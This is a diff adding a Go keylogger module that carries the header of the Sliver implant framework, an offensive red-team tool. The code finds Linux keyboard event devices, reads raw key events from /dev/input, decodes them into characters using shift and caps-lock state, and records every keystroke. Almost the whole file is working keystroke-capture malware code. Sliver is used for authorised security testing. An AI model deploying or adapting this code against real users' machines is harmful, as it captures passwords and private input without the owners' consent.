@@ -0,0 +1,157 @@
+package keylogger
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bufio"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+)
+
+const (
+	evKey      = 0x01
+	keyPressed = 1
+	keyRepeat  = 2
+
+	keyLeftShift  = 42
+	keyRightShift = 54
+	keyCapsLock   = 58
+)
+
+var (
+	// ErrNoKeyboard - No readable keyboard device, reading /dev/input requires root
+	ErrNoKeyboard = errors.New("No readable keyboard input device (are you root?)")
+
+	// US layout, indexed by Linux input keycode
+	lowerKeys = []string{
+		"", "[ESC]", "1", "2", "3", "4", "5", "6", "7", "8", "9", "0", "-", "=", "[BS]", "\t",
+		"q", "w", "e", "r", "t", "y", "u", "i", "o", "p", "[", "]", "\n", "", "a", "s",
+		"d", "f", "g", "h", "j", "k", "l", ";", "'", "`", "", "\\", "z", "x", "c", "v",
+		"b", "n", "m", ",", ".", "/", "", "*", "", " ",
+	}
+	upperKeys = []string{
+		"", "[ESC]", "!", "@", "#", "$", "%", "^", "&", "*", "(", ")", "_", "+", "[BS]", "\t",
+		"Q", "W", "E", "R", "T", "Y", "U", "I", "O", "P", "{", "}", "\n", "", "A", "S",
+		"D", "F", "G", "H", "J", "K", "L", ":", "\"", "~", "", "|", "Z", "X", "C", "V",
+		"B", "N", "M", "<", ">", "?", "", "*", "", " ",
+	}
+)
+
+// inputEvent - struct input_event from linux/input.h
+type inputEvent struct {
+	Time  syscall.Timeval
+	Type  uint16
+	Code  uint16
+	Value int32
+}
+
+func startCapture(stop chan bool) error {
+	devices := keyboardDevices()
+	opened := 0
+	for _, device := range devices {
+		input, err := os.Open(device)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("[keylogger] failed to open %s: %s", device, err)
+			// {{end}}
+			continue
+		}
+		opened++
+		go func() {
+			<-stop
+			input.Close() // Unblocks the pending read
+		}()
+		go captureLoop(input)
+	}
+	if opened == 0 {
+		return ErrNoKeyboard
+	}
+	return nil
+}
+
+// keyboardDevices - Find event devices that have a keyboard handler
+func keyboardDevices() []string {
+	devices := []string{}
+	devicesFile, err := os.Open("/proc/bus/input/devices")
+	if err != nil {
+		return devices
+	}
+	defer devicesFile.Close()
+	scanner := bufio.NewScanner(devicesFile)
+	for scanner.Scan() {
+		line := scanner.Text()
+		if !strings.HasPrefix(line, "H: Handlers=") || !strings.Contains(line, "kbd") {
+			continue
+		}
+		for _, handler := range strings.Fields(line[len("H: Handlers="):]) {
+			if strings.HasPrefix(handler, "event") {
+				devices = append(devices, filepath.Join("/dev/input", handler))
+			}
+		}
+	}
+	return devices
+}
+
+func captureLoop(input *os.File) {
+	defer input.Close()
+	shift, capsLock := false, false
+	event := inputEvent{}
+	buf := make([]byte, unsafe.Sizeof(event))
+	for {
+		_, err := input.Read(buf)
+		if err != nil {
+			return
+		}
+		event = *(*inputEvent)(unsafe.Pointer(&buf[0]))
+		if event.Type != evKey {
+			continue
+		}
+		switch event.Code {
+		case keyLeftShift, keyRightShift:
+			shift = event.Value != 0
+			continue
+		case keyCapsLock:
+			if event.Value == keyPressed {
+				capsLock = !capsLock
+			}
+			continue
+		}
+		if event.Value != keyPressed && event.Value != keyRepeat {
+			continue
+		}
+		if int(event.Code) < len(lowerKeys) {
+			key := lowerKeys[event.Code]
+			isLetter := len(key) == 1 && 'a' <= key[0] && key[0] <= 'z'
+			if shift != (capsLock && isLetter) {
+				key = upperKeys[event.Code]
+			}
+			if key != "" {
+				keylog.record("", key)
+			}
+		}
+	}
+}